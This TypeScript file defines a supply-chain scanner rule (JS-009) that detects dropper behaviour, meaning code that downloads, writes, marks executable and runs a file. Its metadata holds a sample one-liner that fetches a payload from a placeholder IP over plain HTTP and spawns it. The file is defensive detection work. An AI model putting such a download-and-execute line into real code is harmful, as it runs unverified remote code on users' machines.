import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { calleeName, FILE_WRITES, isShadyLocation, js, NETWORK_CALLS, PROCESS_EXEC } from './helpers.js';

const CHMOD = new Set(['fs.chmod', 'fs.chmodSync', 'fs/promises.chmod', 'fs.promises.chmod']);
const HASHING = new Set(['crypto.createHash', 'crypto.createVerify', 'crypto.verify']);

/**
 * Flags a file that downloads, writes a file and then executes or marks it executable. Binary
 * installers do the same from their release host, so the rule is medium unless the download
 * comes from a raw IP, plain HTTP or an exfiltration-grade host, or nothing verifies it.
 */
export const downloadExecute: JsRule = {
  meta: {
    ...js,
    id: 'JS-009',
    name: 'download-and-execute',
    category: 'dropper',
    severity: 'high',
    confidence: 'medium',
    description:
      'One file fetches data from the network, writes a file and runs a process or makes the file executable.',
    rationale:
      'This is the shape of a dropper: the package itself is small and innocent-looking, the payload arrives at install time and is started immediately.',
    falsePositives:
      'Binary installers of legitimate CLIs (esbuild-style postinstall downloaders) do the same; they download over HTTPS from their own release host and often verify a checksum, which lowers this finding to medium.',
    example:
      "http.get('http://192.0.2.1/p', r => r.pipe(fs.createWriteStream(p)).on('finish', () => { fs.chmodSync(p, 0o755); spawn(p) }))",
    references: ['https://attack.mitre.org/techniques/T1105/'],
  },
  create(ctx) {
    let net: Node | undefined;
    let write: Node | undefined;
    let exec: Node | undefined;
    let chmod: Node | undefined;
    let hashing = false;
    const shady: string[] = [];
    const noteTarget = (value: string | undefined) => {
      if (value && isShadyLocation(value)) shady.push(value);
    };
    const check = (node: Node) => {
      const name = calleeName(ctx, node);
      if (!name) return;
      if (NETWORK_CALLS.has(name)) {
        net ??= node;
        noteTarget(ctx.evaluateString(node.arguments?.[0]));
      } else if (FILE_WRITES.has(name)) write ??= node;
      else if (PROCESS_EXEC.has(name)) exec ??= node;
      else if (CHMOD.has(name)) chmod ??= node;
      else if (HASHING.has(name)) hashing = true;
    };
    return {
      CallExpression: check,
      NewExpression: check,
      Property(node: Node) {
        const key = node.key?.name ?? node.key?.value;
        if (key === 'host' || key === 'hostname' || key === 'url' || key === 'uri')
          noteTarget(ctx.evaluateString(node.value));
      },
      'Program:done'() {
        if (!net || !write || !(exec || chmod)) return;
        ctx.facts.capabilities.add('dropper');
        const strong = shady.length > 0;
        ctx.report({
          node: (exec ?? chmod)!,
          message: `Downloads (${calleeName(ctx, net)}${strong ? ` from ${shady[0]}` : ''}), writes a file (${calleeName(ctx, write)}) and ${exec ? `runs a process (${calleeName(ctx, exec)})` : 'makes it executable (chmod)'}.`,
          // Without a raw-IP/plain-HTTP/exfil-grade source this is the binary-installer pattern
          // (esbuild, chromedriver): a capability worth noting, not a verdict.
          severity: strong ? 'high' : 'low',
          confidence: strong ? 'high' : hashing ? 'low' : 'medium',
          evidence: {
            network: calleeName(ctx, net),
            write: calleeName(ctx, write),
            exec: exec && calleeName(ctx, exec),
            chmod: !!chmod,
            suspiciousSource: shady[0],
            verifiesChecksum: hashing,
          },
          iocs: strong ? [shady[0]!] : undefined,
        });
      },
    };
  },
};
